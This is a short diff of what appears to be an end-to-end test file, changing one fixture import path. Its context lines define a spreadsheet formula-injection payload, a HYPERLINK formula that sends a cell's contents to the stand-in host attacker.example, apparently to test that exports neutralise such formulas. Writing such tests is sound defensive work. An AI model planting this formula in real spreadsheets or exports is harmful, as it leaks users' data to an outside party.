@@ -1,6 +1,6 @@
 import { readFile } from 'node:fs/promises';
 import Papa from 'papaparse';
-import { expect, sampleFile, sha256Of, test } from './support/fixtures';
+import { expect, sampleFile, sha256Of, test } from '../support/e2e-fixtures';
 import { REVIEWER } from './pages/app-shell';
 
 const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';
